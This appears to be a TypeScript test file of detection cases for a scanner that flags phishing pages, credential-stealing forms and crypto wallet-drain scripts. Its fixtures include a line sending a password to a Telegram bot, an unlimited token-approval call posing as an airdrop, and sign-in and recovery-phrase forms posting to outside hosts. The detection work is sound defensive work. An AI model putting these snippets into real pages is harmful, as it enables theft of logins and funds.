// Web pages that take a password, a recovery phrase, a wallet.
import type { FileFacts } from '../../../src/file/facts.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import type { FactCases } from './case.ts'

const PAGE: NonNullable<FileFacts['html']> = {
  kind: 'html',
  title: '',
  forms: [],
  passwordFields: 1,
  refreshes: [],
  frames: [],
  handlers: [],
  scriptCount: 1,
  remoteScripts: [],
  script: null,
  dataUrls: [],
  objects: [],
  helpCommands: [],
  ownAddress: '',
  linkHosts: [],
  linkCount: 0,
  textChars: 0,
  text: '',
  images: 0,
  filledAddress: '',
}
const page = (script: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
  html: { ...PAGE, script: readScript(script, 'javascript').facts, ...given },
})
type Form = NonNullable<FileFacts['html']>['forms'][number]
const form = (action: string): Form => ({ action, method: 'post', passwordFields: 0, fields: 1 })
const signIn = (action: string): Form => ({ ...form(action), passwordFields: 1 })
const phrasePage = (action: string): Partial<FileFacts> =>
  page('', { text: 'Enter your 12-word Secret Recovery Phrase', forms: [form(action)] })
const DRAIN =
  "await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender + 'f'.repeat(64) }] })"
const BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + pw.value)'

export const PAGES: FactCases = {
  page_hands_password_to_bot: {
    hits: { 'a form and a bot': page(BOT) },
    misses: {
      'a bot without a password': page(BOT, { passwordFields: 0 }),
      'a password for its own server': page('fetch("/login", { method: "POST", body: data })'),
    },
  },
  page_asks_for_recovery_phrase: {
    hits: { 'posted elsewhere': phrasePage('https://restore.example/save.php') },
    misses: {
      'a wallet, within itself': phrasePage('/restore'),
      'a sign-in elsewhere': page('', { text: 'Sign in', forms: [form('https://sso.example/login')] }),
    },
  },
  page_poses_as_sign_in: {
    hits: {
      'pictures of the service': page('', {
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://forms.example/a')],
      }),
      'made out to its reader': page('', {
        title: 'SharePoint',
        filledAddress: 'kim@customer.example',
        forms: [signIn('https://forms.example/a')],
      }),
      'a bare address': page('', { forms: [signIn('http://203.0.113.8/post')] }),
      'a picture that asks': page('', { kind: 'svg', forms: [signIn('https://forms.example/a')] }),
    },
    misses: {
      'a saved page of the service': page('', {
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://login.microsoftonline.com/common/login')],
      }),
      'a router': page('', { forms: [signIn('http://192.168.1.1/login.cgi')] }),
      'a page that tells its own address': page('', {
        ownAddress: 'https://portal.example/',
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://sso.example/a')],
      }),
      'an account of another service': page('', { title: 'Shop', forms: [signIn('https://shop.example/session')] }),
    },
  },
  page_hides_its_sign_in: {
    hits: { 'out of base64': { ...page('', { forms: [signIn('https://collect.example/p')] }), relation: 'decoded' } },
    misses: {
      'in the open': page('', { forms: [signIn('https://collect.example/p')] }),
      'a form of its own page': { ...page('', { forms: [signIn('/session')] }), relation: 'decoded' },
    },
  },
  page_drains_wallet: {
    hits: { 'a right for a gift': page(DRAIN, { title: 'Claim your airdrop' }) },
    misses: {
      'an exchange': page(DRAIN, { title: 'Swap tokens' }),
      'a gift for nothing': page('connect()', { title: 'Claim your airdrop' }),
    },
  },
}
